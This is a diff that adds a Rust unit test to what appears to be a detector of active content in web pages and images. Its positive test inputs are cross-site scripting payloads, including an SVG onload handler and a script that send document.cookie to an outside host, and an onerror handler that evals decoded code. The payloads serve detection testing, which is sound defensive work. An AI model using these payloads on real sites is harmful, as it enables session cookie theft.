@@ -55,6 +55,24 @@ mod tests {
     }
 
     #[test]
+    fn active_pages_and_pictures_are_found() {
+        for page in [
+            r#"<svg onload="fetch('https://a.io/'+document.cookie)"></svg>"#,
+            r#"<img src=x onerror="eval(atob('YQ=='))">"#,
+            "<script>new Image().src='https://a.io/?'+document.cookie</script>",
+        ] {
+            assert_eq!(found(page.as_bytes()), 1, "{page}");
+        }
+        for page in [
+            r#"<svg viewBox="0 0 8 8"><path d="M0 0"/></svg>"#,
+            r#"<img src="a.png" onload="resize()">"#,
+            "<script>document.title = 'words'</script> sets document.cookie and location",
+        ] {
+            assert_eq!(found(page.as_bytes()), 0, "{page}");
+        }
+    }
+
+    #[test]
     fn the_marker_alone_is_fine() {
         assert_eq!(found(b"starts with #!/bin/sh, and"), 0);
         assert_eq!(found(b"#!/bin/sh"), 0);
